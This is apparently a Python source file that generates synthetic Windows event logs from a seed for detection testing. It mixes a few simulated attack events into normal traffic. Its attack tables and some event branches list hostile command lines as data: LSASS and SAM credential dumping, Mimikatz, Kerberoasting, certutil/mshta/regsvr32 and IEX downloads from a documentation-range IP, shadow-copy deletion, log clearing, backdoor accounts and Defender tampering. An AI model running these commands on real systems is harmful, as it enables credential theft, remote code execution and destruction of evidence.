"""Windows events of mixed channels, made from a seed: what the machines of a domain with Sysmon log in a day or
two, in the shares that such logs have, and a few attacks among it. No event comes from a real machine."""

from __future__ import annotations

import hashlib
import random
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from itertools import islice
from pathlib import Path

from trapline.samples.event import Event, Kind, xml

START = datetime(2026, 3, 2, tzinfo=UTC)
DAY = 86_400_000_000
"""Microseconds."""
ATTACKS = 0.0005
"""Share of events that belong to an attack."""
PER_FILE = 100_000

_DOMAIN = "corp.example"
_AUDIT = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
_SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
_SHELL = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")
_SCM = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
_DEFENDER = ("Microsoft-Windows-Windows Defender", "{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}")
_TASKS = ("Microsoft-Windows-TaskScheduler", "{de7b24ea-73c8-4a09-985d-5bdadcfa9017}")

_CHANNELS: dict[str, tuple[str, tuple[str, str]]] = {
    "security": ("Security", _AUDIT),
    "sysmon": ("Microsoft-Windows-Sysmon/Operational", _SYSMON),
    "shell": ("Microsoft-Windows-PowerShell/Operational", _SHELL),
    "system": ("System", _SCM),
    "defender": ("Microsoft-Windows-Windows Defender/Operational", _DEFENDER),
    "tasks": ("Microsoft-Windows-TaskScheduler/Operational", _TASKS),
}

# thousandths of all events
_SHARES = {
    ("security", 4624): 80,
    ("security", 4634): 60,
    ("security", 4672): 40,
    ("security", 4688): 100,
    ("security", 4689): 55,
    ("security", 4769): 45,
    ("security", 4768): 12,
    ("security", 4776): 10,
    ("security", 4625): 6,
    ("security", 5140): 10,
    ("security", 5145): 25,
    ("security", 4663): 20,
    ("security", 5156): 55,
    ("security", 4799): 6,
    ("security", 4738): 1,
    ("sysmon", 1): 90,
    ("sysmon", 3): 70,
    ("sysmon", 5): 40,
    ("sysmon", 7): 60,
    ("sysmon", 10): 35,
    ("sysmon", 11): 60,
    ("sysmon", 12): 20,
    ("sysmon", 13): 60,
    ("sysmon", 18): 3,
    ("sysmon", 22): 45,
    ("sysmon", 23): 8,
    ("shell", 4103): 8,
    ("shell", 4104): 14,
    ("system", 7036): 8,
    ("system", 7040): 2,
    ("system", 7045): 1,
    ("defender", 1150): 2,
    ("defender", 5007): 2,
    ("tasks", 201): 7,
}

_SYSTEM32 = "C:\\Windows\\System32\\"
_CMD = _SYSTEM32 + "cmd.exe"
_POWERSHELL = _SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_EXPLORER = "C:\\Windows\\explorer.exe"
_SERVICES = _SYSTEM32 + "services.exe"
_SVCHOST = _SYSTEM32 + "svchost.exe"

# image, command line ({n}: a number), parent
_PROGRAMS = (
    (_SVCHOST, "svchost.exe -k netsvcs -p -s Schedule", _SERVICES),
    (_SVCHOST, "svchost.exe -k LocalServiceNetworkRestricted -p", _SERVICES),
    (_SYSTEM32 + "backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App.{n}.mca", _SVCHOST),
    (_SYSTEM32 + "taskhostw.exe", "taskhostw.exe", _SVCHOST),
    (_SYSTEM32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", _CMD),
    (_SYSTEM32 + "RuntimeBroker.exe", _SYSTEM32 + "RuntimeBroker.exe -Embedding", _SVCHOST),
    (_SYSTEM32 + "SearchProtocolHost.exe", "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe{n} 1", _SVCHOST),
    (_SYSTEM32 + "wbem\\WmiPrvSE.exe", _SYSTEM32 + "wbem\\wmiprvse.exe -secured -Embedding", _SVCHOST),
    (_SYSTEM32 + "rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL intl.cpl,,{n}", _EXPLORER),
    (_SYSTEM32 + "gpupdate.exe", "gpupdate.exe /target:computer", _SVCHOST),
    (_SYSTEM32 + "reg.exe", "reg query HKLM\\SOFTWARE\\Vendor\\Agent /v Version{n}", _CMD),
    (_SYSTEM32 + "net.exe", "net use \\\\fs02\\share{n}", _CMD),
    (_SYSTEM32 + "schtasks.exe", "schtasks /query /tn Inventory{n}", _CMD),
    (_SYSTEM32 + "sc.exe", "sc query agent{n}", _CMD),
    (_SYSTEM32 + "msiexec.exe", "msiexec /i C:\\ProgramData\\pkg\\update-{n}.msi /qn", _SVCHOST),
    (_CMD, 'cmd.exe /c "C:\\Program Files\\Inventory\\scan.bat" {n}', "C:\\Program Files\\Inventory\\agent.exe"),
    (_POWERSHELL, "powershell.exe -File C:\\Scripts\\inventory.ps1 -Job {n}", _SVCHOST),
    (_POWERSHELL, "powershell.exe -NoProfile -Command Get-Service agent{n}", _CMD),
    ("C:\\Program Files\\Browser\\browser.exe", '"browser.exe" --type=renderer --client={n}', _EXPLORER),
    ("C:\\Program Files\\Browser\\browser.exe", '"browser.exe" --type=gpu-process --mojo={n}', _EXPLORER),
    ("C:\\Program Files\\Office\\OUTLOOK.EXE", '"OUTLOOK.EXE"', _EXPLORER),
    ("C:\\Program Files\\Office\\EXCEL.EXE", '"EXCEL.EXE" "C:\\Users\\Public\\report-{n}.xlsx"', _EXPLORER),
    ("C:\\Program Files\\Office\\WINWORD.EXE", '"WINWORD.EXE" /n "C:\\Users\\Public\\note-{n}.docx"', _EXPLORER),
    ("C:\\Program Files\\Inventory\\agent.exe", '"agent.exe" --interval 300 --run {n}', _SERVICES),
    ("C:\\Program Files\\Backup\\bkagent.exe", '"bkagent.exe" --job {n}', _SERVICES),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git fetch origin --depth {n}", _CMD),
    ("C:\\Python312\\python.exe", "python.exe -m build --step {n}", _CMD),
)
_BAD = (
    (_SYSTEM32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", _CMD),
    (_SYSTEM32 + "reg.exe", "reg save HKLM\\sam C:\\Windows\\Temp\\sam.save", _CMD),
    (_SYSTEM32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\t.dmp full", _CMD),
    (_SYSTEM32 + "certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a{n}.exe a.exe", _CMD),
    (_SYSTEM32 + "wbem\\WMIC.exe", 'wmic /node:"FS02" process call create "cmd.exe /c whoami"', _CMD),
    (_SYSTEM32 + "schtasks.exe", "schtasks /create /sc minute /tn upd{n} /tr C:\\Users\\Public\\u.exe", _CMD),
    (_SYSTEM32 + "net.exe", "net user svc{n} P@ssw0rd! /add", _CMD),
    (_SYSTEM32 + "nltest.exe", "nltest /domain_trusts /all_trusts", _CMD),
    (_SYSTEM32 + "mshta.exe", "mshta.exe http://198.51.100.9/{n}.hta", "C:\\Program Files\\Office\\WINWORD.EXE"),
    (_SYSTEM32 + "regsvr32.exe", "regsvr32 /s /n /u /i:http://198.51.100.9/f.sct scrobj.dll", _CMD),
    (_POWERSHELL, "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", _CMD),
    (_SYSTEM32 + "wevtutil.exe", "wevtutil cl Security", _CMD),
)
_SCRIPTS = (
    "Get-Service | Where-Object {{ $_.Status -eq 'Stopped' }} | Select-Object Name, StartType # {n}",
    "function Get-Report{n} {{\n    param([string]$Drive = 'C:')\n    Get-PSDrive -Name $Drive.TrimEnd(':')\n}}",
    "Import-Module Inventory; Get-InventoryItem -Id {n} | Export-Csv -Path C:\\ProgramData\\inv.csv",
    "{{ Set-StrictMode -Version 1; $_.ErrorCategory_Message }} # {n}",
)
_BAD_SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/{n}.ps1')",
    "Invoke-Mimikatz -DumpCreds # {n}",
    "Get-DomainUser -SPN | Get-DomainSPNTicket -Format Hashcat # {n}",
    "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils') # {n}",
)
_DLLS = ("kernel32", "ntdll", "user32", "rpcrt4", "crypt32", "ws2_32", "amsi", "clr", "mscoree", "taskschd", "wmiutils")
_KEYS = (
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-18\\{n}",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Installer\\UserData\\{n}\\Usage",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{n}\\DynamicInfo",
    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\{n}\\Count",
    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{n}\\LeaseObtainedTime",
)
_BAD_KEYS = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\upd{n}",
    "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
    "HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)",
)
_FILES = ("AppData\\Local\\Temp\\{n}.tmp", "AppData\\Local\\Browser\\Cache\\f_{n}", "Documents\\report-{n}.xlsx")
_BAD_FILES = ("AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u{n}.lnk", "Downloads\\a{n}.hta")


class Mix:
    """Makes the events. The same seed makes the same ones."""

    def __init__(self, seed: int = 1) -> None:
        self._random = random.Random(seed)
        self._kinds: dict[tuple[str, int], Kind] = {}
        self._hosts = [f"{'SRV' if at < 30 else 'WS'}-{at:03}" for at in range(240)]
        self._users = [f"user{at:03}" for at in range(300)]

    def events(self, count: int) -> Iterator[Event]:
        """So many events of two days, in order of time."""
        draw = self._random
        kinds = draw.choices(list(_SHARES), list(_SHARES.values()), k=count)
        step = 2 * DAY / count
        start = int(START.timestamp()) * 1_000_000
        for at, (channel, number) in enumerate(kinds):
            bad = draw.random() < ATTACKS
            if bad and channel == "security" and number not in _ATTACKED:
                number = draw.choice(_ATTACKED)
            host = f"{draw.choice(self._hosts)}.{_DOMAIN}"
            data = self._data(channel, number, host, bad)
            sid = "S-1-5-18" if channel != "security" else None
            thread = draw.randrange(300, 9000, 4)
            yield Event(start + int(at * step), host, self._kind(channel, number), data, sid, thread, at + 1)

    def _kind(self, channel: str, number: int) -> Kind:
        known = self._kinds.get((channel, number))
        if known is None:
            name, (provider, guid) = _CHANNELS[channel]
            keywords = "0x8020000000000000" if channel == "security" else "0x8000000000000000"
            known = Kind(name, provider, guid, number, 2, 4, number, 0, keywords, 724)
            self._kinds[channel, number] = known
        return known

    # --- what an event says

    def _data(self, channel: str, number: int, host: str, bad: bool) -> tuple[tuple[str, str], ...]:
        made = _MADE[channel](self, number, host, bad)
        return tuple(made.items())

    def _n(self) -> str:
        return str(self._random.randrange(1, 100_000))

    def _guid(self) -> str:
        text = f"{self._random.getrandbits(128):032X}"
        return f"{{{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}}}"

    def _user(self) -> str:
        return self._random.choice(self._users)

    def _address(self) -> str:
        draw = self._random
        outside = f"198.51.100.{draw.randrange(1, 255)}"
        return outside if draw.random() < 0.4 else f"10.0.{draw.randrange(8)}.{draw.randrange(1, 255)}"

    def _program(self, bad: bool) -> tuple[str, str, str]:
        image, command, parent = self._random.choice(_BAD if bad else _PROGRAMS)
        return image, command.replace("{n}", self._n()), parent

    def _pick(self, bad: bool, plain: tuple[str, ...], attack: tuple[str, ...]) -> str:
        return self._random.choice(attack if bad else plain).replace("{n}", self._n())

    def _subject(self, who: str) -> dict[str, str]:
        return {
            "SubjectUserSid": f"S-1-5-21-1004336348-1177238915-682003330-{1000 + len(who)}",
            "SubjectUserName": who,
            "SubjectDomainName": "CORP",
            "SubjectLogonId": f"0x{self._random.randrange(0x10000, 0xFFFFFF):x}",
        }

    def _security(self, number: int, host: str, bad: bool) -> dict[str, str]:
        draw, who = self._random, self._user()
        logon = f"0x{draw.randrange(0x10000, 0xFFFFFF):x}"
        target = {"TargetUserSid": "S-1-5-21-1-2-3-1104", "TargetUserName": who, "TargetDomainName": "CORP"}
        match number:
            case 4624 | 4625:
                kind = draw.choice(("2", "3", "3", "3", "5", "7", "10"))
                body = self._subject("-") | target | {"TargetLogonId": logon, "LogonType": kind}
                body |= {"LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos"}
                body |= {"WorkstationName": "-", "LogonGuid": self._guid(), "KeyLength": "0", "ProcessId": "0x4f8"}
                body |= {"ProcessName": _SVCHOST, "IpAddress": self._address(), "IpPort": self._n()}
                if number == 4625:
                    body |= {"Status": "0xc000006d", "SubStatus": "0xc000006a", "FailureReason": "%%2313"}
                return body
            case 4634:
                return target | {"TargetLogonId": logon, "LogonType": "3"}
            case 4672:
                return self._subject(who) | {"PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeDebugPrivilege"}
            case 4688:
                image, command, parent = self._program(bad)
                body = self._subject(who) | {"NewProcessId": hex(draw.randrange(1000, 12000, 4))}
                body |= {"NewProcessName": image, "TokenElevationType": "%%1936", "ProcessId": hex(1204)}
                body |= {"CommandLine": command, "TargetUserName": "-", "ParentProcessName": parent}
                return body | {"MandatoryLabel": "S-1-16-8192"}
            case 4689:
                image, _, _ = self._program(bad)
                return self._subject(who) | {"Status": "0x0", "ProcessId": "0x4c4", "ProcessName": image}
            case 4768 | 4769:
                service = "krbtgt" if number == 4768 else draw.choice(self._hosts) + "$"
                cipher = "0x17" if bad else "0x12"
                body = {"TargetUserName": f"{who}@CORP", "TargetDomainName": "CORP", "ServiceName": service}
                body |= {"TicketOptions": "0x40810000", "TicketEncryptionType": cipher, "Status": "0x0"}
                return body | {"IpAddress": f"::ffff:{self._address()}", "IpPort": self._n(), "PreAuthType": "2"}
            case 4776:
                body = {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": who}
                return body | {"Workstation": host.partition(".")[0], "Status": "0x0"}
            case 5140 | 5145:
                share = draw.choice(("\\\\*\\IPC$", "\\\\*\\SYSVOL", "\\\\*\\C$" if bad else "\\\\*\\data"))
                body = self._subject(who) | {"ObjectType": "File", "IpAddress": self._address(), "IpPort": self._n()}
                body |= {"ShareName": share, "AccessMask": "0x1", "AccessList": "%%4416"}
                return body | ({"RelativeTargetName": f"dir\\file-{self._n()}.txt"} if number == 5145 else {})
            case 4663:
                body = self._subject(who) | {"ObjectServer": "Security", "ObjectType": "File"}
                body |= {"ObjectName": f"D:\\Shares\\data\\file-{self._n()}.docx", "HandleId": "0x1f4"}
                body |= {"AccessList": "%%4416", "AccessMask": "0x1", "ProcessId": "0x4", "ProcessName": _EXPLORER}
                return body | {"ResourceAttributes": "S:AI"}
            case 5156:
                body = {"ProcessID": "1204", "Application": "\\device\\harddiskvolume3\\windows\\system32\\svchost.exe"}
                body |= {"Direction": "%%14593", "SourceAddress": self._address(), "SourcePort": self._n()}
                return body | {"DestAddress": self._address(), "DestPort": "443", "Protocol": "6", "LayerRTID": "48"}
            case 4720 | 4726 | 4738:
                return target | self._subject("adm-01") | {"PrivilegeList": "-", "SamAccountName": who}
            case 4698:
                body = self._subject(who) | {"TaskName": f"\\upd{self._n()}"}
                return body | {"TaskContent": "<Task><Actions><Exec><Command>u.exe</Command></Exec></Actions></Task>"}
            case 1102:
                return self._subject("adm-01")
        return self._subject(who) | target | {"CallerProcessId": "0x4f8", "CallerProcessName": _SVCHOST}

    def _sysmon(self, number: int, host: str, bad: bool) -> dict[str, str]:
        draw = self._random
        image, command, parent = self._program(bad)
        who = draw.choice(("NT AUTHORITY\\SYSTEM", f"CORP\\{self._user()}"))
        body = {"RuleName": "-", "UtcTime": "2026-03-02 10:11:12.123", "ProcessGuid": self._guid()}
        body |= {"ProcessId": str(draw.randrange(1000, 12000, 4)), "Image": image}
        match number:
            case 1:
                digest = hashlib.sha256(image.encode()).hexdigest().upper()
                body |= {"FileVersion": "10.0.19041.1", "Description": "-", "Product": "-", "Company": "-"}
                body |= {"OriginalFileName": image.rpartition("\\")[2], "CommandLine": command, "User": who}
                body |= {"CurrentDirectory": "C:\\Windows\\system32\\", "LogonGuid": self._guid(), "LogonId": "0x3e7"}
                body |= {"TerminalSessionId": "1", "IntegrityLevel": "Medium", "Hashes": f"SHA256={digest}"}
                body |= {"ParentProcessGuid": self._guid(), "ParentProcessId": str(draw.randrange(500, 9000, 4))}
                return body | {"ParentImage": parent, "ParentCommandLine": parent, "ParentUser": who}
            case 3:
                body |= {"User": who, "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false"}
                body |= {"SourceIp": self._address(), "SourceHostname": host, "SourcePort": self._n()}
                body |= {"SourcePortName": "-", "DestinationIsIpv6": "false", "DestinationIp": self._address()}
                port = draw.choice(("443", "443", "80", "445", "389", "88", "3389"))
                return body | {"DestinationHostname": "-", "DestinationPort": port, "DestinationPortName": "-"}
            case 7:
                dll = f"C:\\Windows\\System32\\{draw.choice(_DLLS)}.dll"
                body |= {"ImageLoaded": f"C:\\Users\\Public\\{self._n()}.dll" if bad else dll, "Description": "-"}
                digest = hashlib.sha256(dll.encode()).hexdigest().upper()
                body |= {"OriginalFileName": dll.rpartition("\\")[2], "Hashes": f"SHA256={digest}"}
                signed = "false" if bad else "true"
                return body | {"Signed": signed, "Signature": "-", "SignatureStatus": "Valid", "User": who}
            case 10:
                body = {"RuleName": "-", "UtcTime": body["UtcTime"], "SourceProcessGUID": self._guid()}
                target = _SYSTEM32 + "lsass.exe" if bad else self._program(False)[0]
                body |= {"SourceProcessId": "1204", "SourceThreadId": "88", "SourceImage": image}
                body |= {"TargetProcessGUID": self._guid(), "TargetProcessId": "724", "TargetImage": target}
                body |= {"GrantedAccess": "0x1010" if bad else "0x1400"}
                trace = f"C:\\Windows\\SYSTEM32\\ntdll.dll+{self._n()}|C:\\Windows\\System32\\KERNELBASE.dll+2b7fe"
                return body | {"CallTrace": trace, "SourceUser": who, "TargetUser": "NT AUTHORITY\\SYSTEM"}
            case 11 | 23:
                path = self._pick(bad, _FILES, _BAD_FILES)
                body |= {"TargetFilename": f"C:\\Users\\{self._user()}\\{path}", "User": who}
                return body | ({"CreationUtcTime": body["UtcTime"]} if number == 11 else {"Hashes": "-"})
            case 12 | 13:
                body = {"EventType": "SetValue" if number == 13 else "CreateKey"} | body
                body |= {"TargetObject": self._pick(bad, _KEYS, _BAD_KEYS), "User": who}
                return body | (
                    {"Details": draw.choice(("DWORD (0x00000001)", "Binary Data", "QWORD (0x1-0x2)"))}
                    if number == 13
                    else {}
                )
            case 18:
                return body | {"EventType": "ConnectPipe", "PipeName": "\\evil" if bad else "\\srvsvc", "User": who}
            case 22:
                name = f"c{self._n()}.evil.example" if bad else f"host{draw.randrange(400)}.corp.example"
                answer = f"::ffff:{self._address()};"
                return body | {"QueryName": name, "QueryStatus": "0", "QueryResults": answer, "User": who}
        return body | {"User": who}

    def _shell(self, number: int, host: str, bad: bool) -> dict[str, str]:
        text = self._random.choice(_BAD_SCRIPTS if bad else _SCRIPTS).format(n=self._n())
        if number == 4103:
            context = f"Severity = Informational\n Host Name = ConsoleHost\n User = CORP\\{self._user()}"
            return {"ContextInfo": context, "UserData": "", "Payload": f'CommandInvocation(x): "{text}"'}
        body = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text}
        return body | {"ScriptBlockId": self._guid()[1:-1].lower(), "Path": ""}

    def _system(self, number: int, host: str, bad: bool) -> dict[str, str]:
        name = f"svc{self._random.randrange(80)}"
        match number:
            case 7036:
                return {"param1": f"Service {name}", "param2": self._random.choice(("running", "stopped"))}
            case 7040:
                body = {"param1": f"Service {name}", "param2": "demand start"}
                return body | {"param3": "disabled" if bad else "auto start", "param4": name}
        path = "%COMSPEC% /c powershell -enc SQBFAFgA" if bad else f'"C:\\Program Files\\{name}\\{name}.exe"'
        body = {"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service"}
        return body | {"StartType": "auto start", "AccountName": "LocalSystem"}

    def _defender(self, number: int, host: str, bad: bool) -> dict[str, str]:
        body = {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.25010.11"}
        if number == 1150:
            return body | {"Platform version": "4.18.25010.11", "Engine version": "1.1.25010.7"}
        key = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\" + ("Exclusions\\Paths\\C:\\" if bad else "Diagnostics\\T")
        return body | {"Old Value": "", "New Value": f"{key} = 0x{self._n()}"}

    def _tasks(self, number: int, host: str, bad: bool) -> dict[str, str]:
        body = {"TaskName": f"\\Microsoft\\Windows\\Job{self._random.randrange(60)}", "TaskInstanceId": self._guid()}
        return body | {"ActionName": self._program(bad)[0], "ResultCode": "0", "EnginePID": "1204"}


_ATTACKED = (4688, 4769, 5145, 4698, 4720, 1102)
_MADE: dict[str, Callable[[Mix, int, str, bool], dict[str, str]]] = {
    "security": Mix._security,
    "sysmon": Mix._sysmon,
    "shell": Mix._shell,
    "system": Mix._system,
    "defender": Mix._defender,
    "tasks": Mix._tasks,
}


def write(folder: Path, count: int) -> None:
    """One XmlWinEventLog text file per 100,000 events."""
    events = Mix().events(count)
    for number in range(-(-count // PER_FILE)):
        path = folder / f"events-{number:02}-xmlwineventlog.log"
        with path.open("w", encoding="utf-8", newline="\n") as out:
            out.writelines(xml(event) + "\n" for event in islice(events, PER_FILE))
